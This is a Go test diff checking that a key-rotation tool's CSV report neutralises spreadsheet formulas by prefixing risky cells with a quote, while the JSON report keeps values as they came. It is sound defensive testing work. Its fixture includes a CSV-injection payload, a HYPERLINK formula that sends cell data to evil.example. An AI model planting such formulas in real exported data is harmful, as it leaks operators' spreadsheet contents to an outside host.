@@ -2,6 +2,7 @@ package tasks
 
 import (
 	"context"
+	"encoding/csv"
 	"strings"
 	"testing"
 	"time"
@@ -63,6 +64,78 @@ func TestPlanDropsForgedKeypairNames(t *testing.T) {
 		}
 		if len(b.Servers) != len(ts) || got["forged-server"] {
 			t.Fatalf("stored batch holds %d servers %v, want exactly the %d targets", len(b.Servers), b.Servers, len(ts))
+		}
+	})
+}
+
+// TestReportCSVNeutralisesFormulas: what the API said about a server (its
+// job id, error code and message) and the ids it came with reach the
+// operator's spreadsheet through the CSV report: a cell that would run as
+// a formula starts with a quote there, and the JSON report keeps it as it
+// came.
+func TestReportCSVNeutralisesFormulas(t *testing.T) {
+	testredis.Each(t, func(t *testing.T, r *testredis.Redis) {
+		ctx := context.Background()
+		s := NewStore(r.Client(t), "")
+		plan, err := MakePlan(ctx, Spec{ID: "r-csv", Keypair: "kp-new", ChunkSize: 100, MaxAttempts: 3,
+			Targets: []Target{{ServerID: "-s1"}, {ServerID: "s2"}}}, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		now := time.Now()
+		if _, err := s.Create(ctx, plan.Rotation, plan.Chunks, nil, now); err != nil {
+			t.Fatal(err)
+		}
+		jobs := map[string]string{"-s1": "@job", "s2": "j2"}
+		if _, err := s.Checkpoint(ctx, "r-csv", 1, 2, "+req", jobs, nil, now, now); err != nil {
+			t.Fatal(err)
+		}
+		b, err := s.Batch(ctx, "r-csv", 1)
+		if err != nil {
+			t.Fatal(err)
+		}
+		formula := `=HYPERLINK("http://evil.example/?"&A1,"details")`
+		var rs []Resolution
+		for _, e := range b.Servers {
+			rs = append(rs, Resolution{ServerID: e.ServerID, Outcome: OutcomeFailed, Attempts: 1, JobID: jobs[e.ServerID],
+				Code: "-CPS.1", Message: formula, Entry: e})
+		}
+		if _, err := s.Resolve(ctx, "r-csv", 1, 1, rs, time.Time{}, true, now); err != nil {
+			t.Fatal(err)
+		}
+		var out strings.Builder
+		if err := s.WriteReportCSV(ctx, "r-csv", &out); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
+		if err != nil {
+			t.Fatalf("report is not CSV: %v\n%s", err, out.String())
+		}
+		if len(rows) != 3 {
+			t.Fatalf("%d rows, want a header and 2\n%s", len(rows), out.String())
+		}
+		for _, row := range rows[1:] {
+			for i, v := range row {
+				if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
+					t.Errorf("column %s is %q: a spreadsheet would run it", ReportColumns[i], v)
+				}
+			}
+			if row[8] != "'"+formula {
+				t.Errorf("error_msg %q, want the message behind a quote", row[8])
+			}
+			if row[5] != "1" {
+				t.Errorf("attempts %q, want 1 as a number", row[5])
+			}
+		}
+		if rows[1][0] != "'-s1" || rows[1][4] != "'@job" || rows[1][7] != "'-CPS.1" {
+			t.Errorf("first row %q: ids and code not neutralised", rows[1])
+		}
+		var js strings.Builder
+		if err := s.WriteReportJSON(ctx, "r-csv", &js); err != nil {
+			t.Fatal(err)
+		}
+		if !strings.Contains(js.String(), `"server_id":"-s1"`) {
+			t.Errorf("JSON report changed the server id: %s", js.String())
 		}
 	})
 }
